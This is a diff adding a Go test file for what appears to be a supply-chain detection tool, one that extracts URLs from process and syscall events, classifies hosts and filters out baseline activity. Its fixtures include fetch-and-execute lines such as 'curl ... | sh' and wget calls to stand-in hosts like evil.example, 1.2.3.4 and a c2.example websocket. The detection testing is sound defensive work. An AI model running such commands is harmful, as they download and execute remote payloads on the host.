@@ -0,0 +1,52 @@
+package aggregate
+
+import (
+	"strings"
+	"testing"
+
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+)
+
+func TestExtractURLs(t *testing.T) {
+	assert.Equal(t, []string{"http://1.2.3.4/x.sh"},
+		ExtractURLs("sh -c curl -fsSL http://1.2.3.4/x.sh | sh"))
+	assert.Equal(t, []string{"https://evil.example/p?a=1", "wss://c2.example:8443/ws"},
+		ExtractURLs(`node -e require('https').get('https://evil.example/p?a=1');new WebSocket("wss://c2.example:8443/ws").`))
+	assert.Empty(t, ExtractURLs("node-gyp rebuild"))
+}
+
+func TestClassifyHost(t *testing.T) {
+	assert.Equal(t, HostLoopback, ClassifyHost("127.0.0.1"))
+	assert.Equal(t, HostLoopback, ClassifyHost("localhost"))
+	assert.Equal(t, HostLoopback, ClassifyHost("[::1]"))
+	assert.Equal(t, HostPrivateIP, ClassifyHost("10.0.0.5"))
+	assert.Equal(t, HostPrivateIP, ClassifyHost("169.254.169.254"))
+	assert.Equal(t, HostPublicIP, ClassifyHost("1.2.3.4"))
+	assert.Equal(t, HostIDN, ClassifyHost("xn--pple-43d.com"))
+	assert.Equal(t, HostDomain, ClassifyHost("registry.npmjs.org"))
+}
+
+func TestURLIndicators(t *testing.T) {
+	const events = `
+{"processId":2,"parentProcessId":1,"processName":"sh","eventName":"execve","args":[{"name":"pathname","value":"/bin/sh"},{"name":"argv","value":["sh","-c","curl -s https://Evil.Example/x.sh | sh"]}]}
+{"processId":3,"parentProcessId":1,"processName":"wget","eventName":"execve","args":[{"name":"pathname","value":"/usr/bin/wget"},{"name":"argv","value":["wget","http://1.2.3.4:8080/payload"]}]}
+{"processId":2,"parentProcessId":1,"processName":"sh","eventName":"net_packet_dns_request","args":[{"name":"dns_questions","value":[{"query":"evil.example"}]}]}
+{"processId":4,"parentProcessId":1,"processName":"npm","eventName":"execve","args":[{"name":"pathname","value":"/usr/bin/npm"},{"name":"argv","value":["npm","view","https://registry.npmjs.org/x"]}]}
+`
+	target, err := NewProcessAggregator().ProcessReader(strings.NewReader(events), "target")
+	require.NoError(t, err)
+	assert.Equal(t, map[string]int{"https://Evil.Example/x.sh": 1}, target.PerProcess["sh"].NetworkActivity.URLs)
+
+	baseline := &PerProcessStats{PerProcess: map[string]*ProcessSummary{"npm": newProcessSummary()}}
+	baseline.PerProcess["npm"].SyscallProfile["execve"] = 1
+	baseline.PerProcess["npm"].ExecutedCommands["/usr/bin/npm"] = 1
+	baseline.PerProcess["npm"].NetworkActivity.URLs["https://registry.npmjs.org/x"] = 1
+
+	result := Dedup(target, baseline)
+	assert.NotContains(t, result.PerProcess, "npm")
+	assert.Equal(t, []URLIndicator{
+		{URL: "http://1.2.3.4:8080/payload", Host: "1.2.3.4", Class: HostPublicIP, Processes: []string{"wget"}, Count: 1},
+		{URL: "https://Evil.Example/x.sh", Host: "evil.example", Class: HostDomain, Processes: []string{"sh"}, Count: 1, Observed: true},
+	}, result.URLIndicators)
+}